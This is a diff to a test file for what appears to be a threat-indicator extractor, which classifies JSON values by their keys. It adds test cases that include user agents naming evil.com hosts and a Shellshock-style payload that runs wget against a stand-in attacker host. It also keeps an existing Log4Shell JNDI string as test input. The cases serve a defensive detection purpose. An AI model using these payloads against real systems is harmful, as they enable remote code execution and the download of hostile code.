@@ -20,6 +20,10 @@ describe('what a key says of its value', () => {
       'a user agent by a name beside it',
       { ExtendedProperties: [{ Name: 'UserAgent', Value: 'X 124.0.0.0' }] },
     ],
+    [
+      'who wrote the program',
+      { userAgent: 'x/1.7 (https://a.evil.com)', ua: 'Bot (x; B/2.0; http://b.evil.com/b)' },
+    ],
     ['versions', { agentVersion: '10.2.3.4', version: '9.9.9.9', product: { ver: '8.8.4.4' } }],
     [
       'a message id',
@@ -33,6 +37,7 @@ describe('what a key says of its value', () => {
       'hashes of other things',
       { imphash: MD5, ja3: MD5, authentihash: SHA256, IncidentHash: MD5, dtHash: SHA256 },
     ],
+    ['a hash of something else below its name', { ja3: { hash: MD5 }, tls: { ja3s: { md5: MD5 } } }],
     [
       'a schema',
       { $schema: 'https://evil.com/s.json', '@odata.type': '#evil.com', xmlns: 'http://evil.com/ns' },
@@ -66,6 +71,11 @@ describe('what a key says of its value', () => {
 
   it.each<[string, Json, string[]]>([
     ['an attack in a user agent', { userAgent: '${jndi:ldap://a.evil.com/x}' }, ['domain a.evil.com']],
+    [
+      'a command in a user agent',
+      { ua: '() { :; }; wget http://a.evil.com/x' },
+      ['url http://a.evil.com/x', 'domain a.evil.com'],
+    ],
     [
       'a bare hash by its key',
       { md5: MD5, file_hash: SHA1, value: SHA256 },
